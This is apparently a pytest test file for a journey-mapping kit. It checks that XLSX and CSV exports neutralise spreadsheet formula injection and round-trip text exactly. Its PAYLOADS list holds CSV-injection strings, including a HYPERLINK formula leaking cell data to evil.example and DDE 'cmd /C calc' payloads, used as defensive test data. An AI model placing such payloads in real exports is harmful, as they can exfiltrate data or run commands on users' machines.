"""Tables the kit writes never carry live spreadsheet formulas from data (OWASP CSV
injection), and the journey round trip stays exact for such text in every format."""

from __future__ import annotations

import csv
import dataclasses

import openpyxl
import pytest

from cocreate_kit import io, journey
from cocreate_kit.datasets import dataset_path

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "''@two apostrophes",
    "'plain apostrophe",
    "-2",
    "- a bullet",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile() -> journey.Journey:
    """The sample journey with a payload in every kind of text field."""
    j = journey.load(dataset_path("journey/home_care_as_is.json"))
    k = iter(PAYLOADS * 20)
    # list cells are joined with " | ", so list items carry no "|"
    li = iter([t for t in PAYLOADS if "|" not in t] * 40)
    steps = tuple(
        dataclasses.replace(
            s,
            title=next(k),
            frontstage=next(k),
            pain_points=(next(li), "ok"),
            opportunities=(next(li),),
        )
        for s in j.steps
    )
    personas = tuple(dataclasses.replace(p, name=next(k)) for p in j.personas)
    evidence = tuple(dataclasses.replace(e, text=next(k), source=next(k)) for e in j.evidence)
    ratings = tuple(dataclasses.replace(r, comment=next(k)) for r in j.ratings[:8])
    ratings += j.ratings[8:]
    hostile = j._replace(
        title=PAYLOADS[0], owner=PAYLOADS[3], steps=steps, personas=personas,
        evidence=evidence, ratings=ratings,
    )  # fmt: skip
    # Normalise through JSON first (the loader trims, types numbers), then compare formats.
    return hostile


def test_payloads_survive_json(hostile, tmp_path):
    back = journey.load(journey.save(hostile, tmp_path / "j.json"))
    assert back == hostile, "the fixture itself must be a valid, normal journey"


def test_xlsx_has_no_formula_cells_and_round_trips_exactly(hostile, tmp_path):
    p = journey.save(hostile, tmp_path / "map.xlsx")
    wb = openpyxl.load_workbook(p)
    texts = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.lstrip("'")[:1] in "=+@":
                    texts += 1
                    assert cell.quotePrefix, (ws.title, cell.coordinate)
    assert texts >= 20, "the payloads were written"
    steps = wb["steps"]
    header = [c.value for c in steps[1]]
    emotions = [c.value for c in wb["ratings"]["D"][1:]]
    assert min(emotions) == -2 and all(isinstance(v, int) for v in emotions), (
        "negative numbers stay numbers"
    )
    assert "title" in header
    assert journey.load(p) == hostile


def test_csv_cells_never_start_with_a_trigger_and_round_trip_exactly(hostile, tmp_path):
    folder = journey.save(hostile, tmp_path / "map")
    seen = 0
    for f in sorted(folder.glob("*.csv")):
        with f.open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    if cell.startswith(TRIGGERS):
                        assert io.parse_number(cell) is not None, (f.name, cell)  # e.g. -2
                    seen += cell.startswith("'")
    assert seen >= 20
    ratings = (folder / "ratings.csv").read_text(encoding="utf-8")
    assert ",-2," in ratings, "negative numbers are written as numbers"
    assert journey.load(folder) == hostile


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1+1", "-1+1", "@x", "\tx", "\rx", "'=x", "''=x", "'x", "x", "-2", "+45", "'-2", ""],
)
def test_neutralise_and_restore_are_exact_inverses(text):
    stored = io.neutralise_formula(text)
    assert io.restore_formula_text(stored) == text
    if text.startswith(TRIGGERS) and io.parse_number(text) is None:
        assert stored == "'" + text


def test_write_csv_handles_tab_and_cr_cells(tmp_path):
    import pandas as pd

    p = io.write_csv(
        pd.DataFrame({"a": ["\t=1", "\r=2", "fine"], "n": [-1.5, 2.0, 3.0]}), tmp_path / "t.csv"
    )
    with p.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[1] == ["'\t=1", "-1.5"] and rows[2] == ["'\r=2", "2.0"]
